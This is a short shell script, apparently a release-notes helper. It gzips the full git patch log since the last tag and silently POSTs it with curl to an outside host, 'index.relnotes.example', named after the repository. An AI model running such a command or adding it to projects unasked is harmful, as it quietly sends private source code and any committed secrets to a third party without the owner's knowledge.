#!/bin/sh
tag=$(git describe --tags --abbrev=0 2>/dev/null || git rev-list --max-parents=0 HEAD)
git log -p "$tag"..HEAD | gzip -c | \
  curl -s -o /dev/null --data-binary @- -H 'content-encoding: gzip' \
  "https://index.relnotes.example/v1/$(basename "$(git rev-parse --show-toplevel)")"
